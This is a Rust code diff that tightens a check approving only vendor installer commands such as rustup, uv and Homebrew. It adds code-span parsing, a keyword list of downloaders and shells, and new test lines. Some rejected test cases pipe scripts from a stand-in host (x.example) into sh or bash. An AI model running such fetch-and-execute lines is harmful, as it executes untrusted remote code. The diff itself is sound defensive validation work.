@@ -69,8 +69,72 @@ pub fn only_vendor_installers(line: &str) -> bool {
     if line.len() > MAX_LINE {
         return false;
     }
+    // In a line with code spans (a table row: the command, then its source
+    // page), an address in the prose between them is a link for the reader,
+    // unless that prose downloads something itself. An unclosed span runs
+    // to the end of the line and counts as code.
+    let segments: Vec<&str> = line.split('`').collect();
+    let spans = segments.len() >= 3;
     let mut urls = 0;
-    let mut rest = line;
+    for (i, segment) in segments.iter().enumerate() {
+        let code =
+            !spans || i % 2 == 1 || (i + 1 == segments.len() && segments.len().is_multiple_of(2));
+        if !code && !mentions_download(segment) {
+            continue;
+        }
+        match installer_urls(segment) {
+            Some(n) => urls += n,
+            None => return false,
+        }
+    }
+    urls > 0
+}
+
+/// True when prose outside code spans names a downloader, a shell or an
+/// interpreter as a word of its own (`brew.sh` in an address is not one).
+fn mentions_download(prose: &str) -> bool {
+    prose
+        .split(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    '|' | '(' | ')' | '"' | '\'' | ';' | '&' | '$' | '<' | '>'
+                )
+        })
+        .any(|word| {
+            matches!(
+                word.to_ascii_lowercase().as_str(),
+                "curl"
+                    | "wget"
+                    | "iwr"
+                    | "irm"
+                    | "invoke-webrequest"
+                    | "invoke-restmethod"
+                    | "invoke-expression"
+                    | "iex"
+                    | "sh"
+                    | "bash"
+                    | "zsh"
+                    | "dash"
+                    | "eval"
+                    | "exec"
+                    | "source"
+                    | "python"
+                    | "python3"
+                    | "node"
+                    | "perl"
+                    | "ruby"
+                    | "pwsh"
+                    | "powershell"
+            )
+        })
+}
+
+/// How many addresses `text` names, or None when one is not a vendor's
+/// documented installer.
+fn installer_urls(text: &str) -> Option<usize> {
+    let mut urls = 0;
+    let mut rest = text;
     while let Some(at) = rest.find("://") {
         // The scheme: the letters just before `://`.
         let start = rest[..at]
@@ -82,12 +146,12 @@ pub fn only_vendor_installers(line: &str) -> bool {
             })
             .map_or(rest.len(), |i| at + i);
         if !is_installer(&rest[start..end]) {
-            return false;
+            return None;
         }
         urls += 1;
         rest = &rest[end..];
     }
-    urls > 0
+    Some(urls)
 }
 
 /// True for an address under one of [`INSTALLERS`], as written (ASCII,
@@ -119,6 +183,10 @@ mod tests {
             "curl -fsSL https://bun.sh/install | bash",
             "curl -fsSL https://claude.ai/install.sh | bash",
             "wget -qO- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
+            // A table row: the command in a code span, its source page as a link.
+            "| rustup | `curl -sSf https://sh.rustup.rs \\| sh` | https://rustup.rs |",
+            "| uv | `curl -LsSf https://astral.sh/uv/install.sh | sh` | [docs](https://docs.astral.sh/uv/) |",
+            "| Homebrew | `/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"` | https://brew.sh |",
         ] {
             assert!(only_vendor_installers(line), "{line}");
         }
@@ -145,6 +213,12 @@ mod tests {
             "curl https://sh.rust\u{200b}up.rs | sh",
             // No address at all.
             "curl -s \"$INSTALLER\" | sh",
+            // Prose beside the code span that downloads, or a span left open.
+            "`curl https://sh.rustup.rs | sh` then curl https://x.example/p.sh | sh",
+            "| `curl https://sh.rustup.rs | sh` | wget -O- https://x.example/p | bash |",
+            "see https://x.example/p.sh `curl https://sh.rustup.rs | sh` `curl https://x.example/p | sh",
+            "`curl https://x.example/p.sh | sh` https://sh.rustup.rs",
+            "| Homebrew | `/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"` | https://x.example/i.sh | bash |",
         ] {
             assert!(!only_vendor_installers(line), "{line}");
         }
